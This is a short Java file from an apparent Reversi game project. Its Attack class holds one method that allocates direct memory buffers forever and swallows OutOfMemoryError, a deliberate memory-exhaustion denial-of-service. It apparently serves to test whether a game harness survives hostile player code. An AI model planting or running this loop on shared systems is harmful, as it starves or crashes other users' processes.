package reversi;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

class Attack {
    static String attack(IView view) throws Exception {
        List<ByteBuffer> all = new ArrayList<>();
        while (true) {
            try {
                all.add(ByteBuffer.allocateDirect(1 << 20));
            } catch (OutOfMemoryError full) {
                // There may be more in a moment.
            }
        }
    }
}
